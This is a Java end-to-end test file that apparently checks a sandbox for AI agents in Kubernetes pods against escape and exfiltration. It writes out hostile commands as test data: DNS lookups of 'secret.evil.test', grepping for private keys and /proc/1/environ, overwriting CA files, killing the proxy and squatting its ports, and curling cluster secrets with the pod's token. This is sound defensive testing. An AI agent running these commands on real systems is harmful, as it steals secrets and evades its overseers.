package dev.ambit.cluster.node;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ambit.cluster.machine.Tree;
import dev.ambit.dev.machine.User;
import dev.ambit.testkit.Await;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.api.extension.ExtendWith;

/// An agent that is after the way out, or after what its neighbours hold, in a pod of a real node:
/// the attacks of the matrix that need one.
@ExtendWith(OneSite.class)
@TestInstance(Lifecycle.PER_CLASS)
class EscapesTest {
  private static final String POD = "escapee";

  /// Where the proxy keeps what is its own.
  private static final String PRIVATE = "/run/ambit/private";

  /// By nobody's agreement: nothing answers there, and packets to it leave the pod.
  private static final String FAR_6 = "2001:db8::1";

  private final Site site;
  private Watch watch;

  EscapesTest(Site site) {
    this.site = site;
  }

  @BeforeAll
  void open() throws IOException {
    site.start(POD, site.agent(POD, "annotations: { ambit.dev/session-template: report }"));
    watch = Watch.over(site.node(), POD);
  }

  @AfterAll
  void close() {
    if (watch != null) {
      watch.close();
    }
    site.remove(POD);
  }

  @Test
  void a175NoNameOutsideOfTheEnvelopeIsEverLookedUp() throws IOException {
    var before = watch.lookups();
    for (var name : List.of("secret.evil.test", "c2VjcmV0.evil.test", "www.example.com")) {
      assertThat(site.exec(POD, "getent", "ahosts", name).exit()).as(name).isNotZero();
      assertThat(site.exec(POD, "curl", "-sS", "-m", "5", "https://" + name + "/").exit())
          .isNotZero();
    }
    assertThat(site.exec(POD, "curl", "-sS", "-m", "5", "https://1.1.1.1/dns-query").exit())
        .isNotZero();
    assertThat(site.exec(POD, "curl", "-sS", "-m", "5", "https://9.9.9.9:853/").exit()).isNotZero();
    assertThat(watch.lookups()).isEqualTo(before);
    assertThat(watch.escaped()).isZero();
  }

  @Test
  void a176A177NotOnePacketLeavesByAnyProtocolOrDevice() throws IOException {
    var tried = escape(site.node().outside().address());
    assertThat(tried.lines()).hasSizeGreaterThan(40);
    assertThat(watch.escaped()).as(tried).isZero();
  }

  @Test
  void theWatchSeesWhatLeavesByThoseWhoAreNotTurned() {
    var seen = watch.all();
    assertThat(site.curl(POD, site.items()).out()).endsWith("\n200");
    assertThat(watch.all()).isGreaterThan(seen);
  }

  @Test
  void a183TheKeyOfTheAuthorityIsNowhereThatAnAgentCanRead() {
    var found =
        site.exec(
                POD,
                "sh",
                "-c",
                "grep -rlE 'PRIVATE KEY' /run /var/run /tmp /etc/ssl /proc/1/environ 2>/dev/null; ls -R /run/ambit")
            .out();
    assertThat(found)
        .doesNotContain("PRIVATE KEY")
        .doesNotContain("ca.key")
        .doesNotContain("private");
    assertThat(site.exec(POD, "sh", "-c", "ls /proc/*/root" + PRIVATE + " 2>/dev/null").out())
        .isEmpty();
    var kept =
        site.node().kubectl("get", "secrets,configmaps", "-n", Site.AGENTS, "-o", "yaml").done();
    assertThat(kept).doesNotContain("PRIVATE KEY");
  }

  @Test
  void a184TheTrustOfAnAgentCannotBeChangedByIt() {
    for (var file : List.of("/run/ambit/trust/ca.pem", "/etc/ssl/certs/ca-certificates.crt")) {
      var changed = site.exec(POD, "sh", "-c", "echo forged > " + file);
      assertThat(changed.exit()).as(file).isNotZero();
      assertThat(changed.err()).contains("Read-only file system");
    }
    assertThat(site.curl(POD, site.items()).out()).endsWith("\n200");
  }

  @Test
  void a189NothingLeavesWhileTheProxyIsDownAndItsPortsAreSquatted() throws IOException {
    var sent = site.requests().size();
    var container =
        site.node()
            .kubectl(
                "get",
                "pod",
                POD,
                "-n",
                Site.AGENTS,
                "-o",
                "jsonpath={.status.initContainerStatuses[?(@.name==\"ambit-proxy\")].containerID}")
            .done()
            .replace("containerd://", "");
    var _ =
        site.node()
            .inside("ctr", "-n", "k8s.io", "task", "kill", "-s", "SIGKILL", container)
            .done();
    var squatting = site.exec(POD, "perl", "-e", SQUAT);
    var tried = escape(site.node().outside().address());
    assertThat(watch.escaped()).as(squatting.out() + tried).isZero();
    assertThat(site.requests()).hasSize(sent);
    Await.until(
        "the proxy judges again",
        Site.PATIENCE,
        () -> site.curl(POD, site.items()).out().endsWith("\n200"));
  }

  @Test
  void a190TheWorkloadApiIsNotThereForAnAgentAndGivesItNothing() throws IOException {
    assertThat(site.exec(POD, "sh", "-c", "ls /run/spire /run/ambit/spiffe 2>&1").exit())
        .isNotZero();
    var mounting =
        site.node()
            .apply(
                site.agent("mounting", "")
                        .replace(
                            "      command:",
                            "      volumeMounts: [{ name: s, mountPath: /s }]\n      command:")
                    + "  volumes: [{ name: s, hostPath: { path: /run/spire/agent-sockets } }]\n");
    assertThat(mounting.exit()).isNotZero();
    assertThat(mounting.err()).contains("hostPath").contains("expected");
  }

  @Test
  void a191TheTokenOfAnAgentOpensNothingAndTheControlPlaneAsksForAProxy() {
    var token = "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)";
    var api =
        site.exec(
            POD,
            "sh",
            "-c",
            "curl -sS -k -m 8 -H \"Authorization: Bearer "
                + token
                + "\" https://10.96.0.1/api/v1/namespaces/agents/secrets");
    assertThat(api.out()).doesNotContain("\"items\"");
    var control =
        site.exec(
            POD,
            "curl",
            "-sS",
            "-k",
            "-m",
            "8",
            "https://ambit-control-plane.ambit-system.svc:9443/");
    assertThat(control.exit()).isNotZero();
    assertThat(watch.escaped()).isZero();
  }

  /// Takes the proxy's ports for two seconds, if it can.
  private static final String SQUAT =
      """
      use Socket;
      for my $port (15001, 15002, 15053, 15090) {
        my $socket; socket($socket, PF_INET, SOCK_STREAM, 0);
        setsockopt($socket, SOL_SOCKET, SO_REUSEADDR, 1);
        my $done = bind($socket, sockaddr_in($port, INADDR_LOOPBACK)) && listen($socket, 5);
        push @held, $socket;
        print "$port ", ($done ? "taken" : "$!"), "\\n";
      }
      """;

  /// Runs the escape artist in the pod's network, as a user without a capability.
  private String escape(String address) throws IOException {
    var copy = Files.createTempFile("escape", ".py");
    Files.copy(
        Tree.root().resolve("e2e/redirect/escape"), copy, StandardCopyOption.REPLACE_EXISTING);
    var _ = copy.toFile().setReadable(true, false);
    try {
      var command =
          new ArrayList<>(
              List.of(
                  "nsenter",
                  "--net=/proc/" + process() + "/ns/net",
                  "setpriv",
                  "--reuid",
                  "1000",
                  "--regid",
                  "1000",
                  "--clear-groups",
                  "--bounding-set",
                  "-all",
                  "--inh-caps",
                  "-all",
                  "/usr/bin/python3"));
      command.addAll(List.of(copy.toString(), address, FAR_6));
      return User.ROOT.run(command).done();
    } finally {
      Files.delete(copy);
    }
  }

  /// The agent's process, as this machine counts.
  private String process() throws IOException {
    var id =
        site.node()
            .kubectl(
                "get",
                "pod",
                POD,
                "-n",
                Site.AGENTS,
                "-o",
                "jsonpath={.status.containerStatuses[0].containerID}")
            .done()
            .replace("containerd://", "");
    try (var processes = Files.list(Path.of("/proc"))) {
      return processes
          .filter(path -> path.getFileName().toString().matches("[0-9]+"))
          .filter(path -> read(path.resolve("cgroup")).contains(id))
          .map(path -> path.getFileName().toString())
          .findFirst()
          .orElseThrow(() -> new AssertionError("no process of " + id));
    }
  }

  private static String read(Path file) {
    try {
      return Files.readString(file);
    } catch (IOException _) {
      return "";
    }
  }
}
